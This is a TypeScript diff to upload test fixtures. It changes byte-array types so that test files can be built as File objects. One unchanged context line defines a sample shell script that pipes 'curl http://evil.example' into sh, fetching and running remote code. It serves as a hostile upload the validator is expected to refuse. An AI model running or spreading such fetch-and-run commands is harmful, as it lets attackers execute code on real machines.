@@ -5,8 +5,8 @@ import type { UploadProblem } from './upload.ts';
 export interface UploadCase {
   name: string;
   size: number;
-  /** The file's first bytes; the rest, up to `size`, is zeros. */
-  head: Uint8Array;
+  /** The file's first bytes; the rest, up to `size`, is zeros. (Over an ArrayBuffer: a File can be made of it.) */
+  head: Uint8Array<ArrayBuffer>;
   /** null: the file is accepted. */
   refused: UploadProblem | null;
 }
@@ -27,7 +27,7 @@ const SCRIPT = text('#!/bin/sh\ncurl http://evil.example | sh\n');
 const longName = (length: number) => `${'я'.repeat(length - '.pdf'.length)}.pdf`;
 
 /** The whole body of a case: its head, then zeros up to its size. */
-export function uploadCaseContent({ size, head }: UploadCase): Uint8Array {
+export function uploadCaseContent({ size, head }: UploadCase): Uint8Array<ArrayBuffer> {
   const content = new Uint8Array(size);
   content.set(head.subarray(0, size));
   return content;
